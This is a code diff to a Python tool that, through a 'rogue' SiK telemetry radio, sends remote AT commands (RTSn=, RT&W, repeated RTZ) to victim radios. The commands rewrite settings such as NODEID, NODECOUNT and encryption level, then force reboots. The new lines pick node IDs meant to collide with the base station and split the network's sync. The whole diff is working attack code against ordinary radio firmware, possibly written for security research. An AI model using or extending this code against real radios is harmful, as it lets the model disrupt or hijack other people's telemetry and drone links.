@@ -54,7 +54,7 @@ CANDIDATES: dict[str, tuple[int, ...]] = {
     "MANCHESTER": (1, 0),
     "RTSCTS": (1, 0),
     "MAX_WINDOW": (33, 50),
-    "NODEID": (0, 1),  # node 0 is the base: a second base splits the network's sync
+    "NODEID": (0, 1),  # node 0 is the base: a second base collides with the first
     "NODEDESTINATION": (0, 1),
     "SYNCANY": (1, 0),
     "ENCRYPTION_LEVEL": (1, 0),
@@ -82,6 +82,8 @@ def plan_attack(flavour: str, name: str, current: Mapping[str, int], node: int |
     now = current.get(spec.name)
     if spec.name == "NODECOUNT":
         options: tuple[int, ...] = ((now or 2) + 1,)
+    elif spec.name == "NODEID":  # the highest id first: after a NODECOUNT attack, nobody's
+        options = (current.get("NODECOUNT", 2) - 1, *CANDIDATES["NODEID"])
     else:
         options = CANDIDATES.get(spec.name, ())
     value = None
@@ -113,21 +115,30 @@ def landed(values: Mapping[str, int], attack: Attack) -> bool:
     return values.get(attack.name) == attack.value
 
 
-def send_attack(conf: SikConfigurator, attack: Attack, tries: int = 5, reboot: bool = True) -> bool:
-    """Send ``attack`` through the rogue's radio (``conf`` in command mode, local).
-    Returns whether the victim answered ``OK`` to both ``RTSn=`` and ``RT&W``; ``RTZ``
-    (``reboot``) is sent ``tries`` times whatever happened, as a rogue would. Raises
-    :class:`~radios.errors.LinkClosedError` if the rogue's own port fails."""
-    answered = 0
-    for line in (attack.set_line, attack.save_line):
-        for _ in range(tries):
-            with contextlib.suppress(ATError):
-                reply = conf.command(line, timeout=1.5)
-                if "OK" in (strip_node(r) for r in reply):
-                    answered += 1
-                    break
-    if reboot:
-        for _ in range(tries):
-            with contextlib.suppress(ATError):
-                conf.command(attack.reboot_line, timeout=0.3)
-    return answered == 2
+def send_line(conf: SikConfigurator, line: str, tries: int = 5) -> bool:
+    """One ``RT`` line through the rogue's radio (``conf`` local, in command mode),
+    repeated until a victim answers ``OK`` (at most ``tries`` times); whether one did.
+    Raises :class:`~radios.errors.LinkClosedError` if the rogue's own port fails."""
+    for _ in range(tries):
+        with contextlib.suppress(ATError):
+            if "OK" in (strip_node(r) for r in conf.command(line, timeout=1.5)):
+                return True
+    return False
+
+
+def send_reboot(conf: SikConfigurator, line: str, times: int = 2) -> None:
+    """``RTZ`` (never answered: the victim reboots) sent ``times`` times, as a rogue
+    would against a lossy link."""
+    for _ in range(times):
+        with contextlib.suppress(ATError):
+            conf.command(line, timeout=0.3, expect_reply=False)
+
+
+def send_attack(conf: SikConfigurator, attack: Attack, tries: int = 5, reboots: int = 2) -> bool:
+    """Send ``attack`` (``RTSn=``, ``RT&W``, then ``RTZ`` ``reboots`` times) through the
+    rogue's radio. Returns whether the victim answered ``OK`` to ``RTSn=`` and
+    ``RT&W``. Raises :class:`~radios.errors.LinkClosedError` if the rogue's own port
+    fails."""
+    answered = send_line(conf, attack.set_line, tries) and send_line(conf, attack.save_line, tries)
+    send_reboot(conf, attack.reboot_line, reboots)
+    return answered
